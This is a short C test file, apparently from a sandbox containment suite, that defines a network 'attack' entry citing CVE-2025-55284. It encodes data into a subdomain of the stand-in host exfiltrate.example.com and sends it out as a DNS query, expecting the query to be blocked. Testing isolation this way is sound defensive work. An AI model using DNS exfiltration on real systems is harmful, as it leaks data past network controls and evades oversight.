/* What was found, as a label of a name that is asked for. */
#include "../attack.h"

#include "dns.h"

ATTACK(NETWORK, "attempts",
       .gain = "data out, by the questions that even a closed network forwards",
       .source = "CVE-2025-55284", .event = "dns.blocked",
       .with = "name=c2vjcmv0lwrhdge.exfiltrate.example.com", .works = SOME_KERNELS,
       .needs = "a name server", .flags = QUIET)
{
	return *name_server() ? dns_ask(name_server(), "c2vjcmv0lwrhdge.exfiltrate.example.com")
			      : NOT_HERE;
}
